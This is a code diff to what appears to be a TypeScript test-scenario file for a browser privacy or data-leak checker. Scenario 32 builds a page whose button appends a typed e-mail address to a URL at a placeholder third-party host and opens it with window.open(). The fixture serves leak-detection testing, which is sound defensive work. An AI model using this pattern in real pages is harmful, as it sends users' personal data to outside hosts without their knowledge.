@@ -6,7 +6,7 @@ const ASK_EMAIL = { policy: { email: { unknown: 'hold' } } } as const;
 const typed = [['[name=email]', EMAIL]] as const;
 
 /** A page whose button runs `code`, with the address in `url`. */
-const onPress = (url: string, code: string) => `${emailField}<button id="press">Next</button><p id="said"></p>
+const onPress = (url: string, code: string) => `${emailField}<button id="press">Next</button>
 <script>document.querySelector('#press').onclick = () => {
   const url = ${url} + encodeURIComponent(document.querySelector('[name=email]').value);
   ${code}
@@ -70,12 +70,9 @@ export const ADDRESSES: readonly Scenario[] = [
     id: '32',
     what: 'window.open() at a third party with an e-mail in the address; the page can use the window that it gets.',
     pages: ({ third }) => ({
-      'site /': onPress(
-        `'https://${third}/t?e='`,
-        `const opened = window.open(url);
-  setInterval(() => { said.textContent = opened && !opened.closed ? 'a window is open' : 'no window'; }, 100);`,
-      ),
+      'site /': onPress(`'https://${third}/t?e='`, 'window.opened = window.open(url);'),
     }),
+    ends: "location.pathname + (window.opened && !opened.closed ? ' a window is open' : ' no window')",
     to: 'third',
     row: { kind: 'email' },
   },
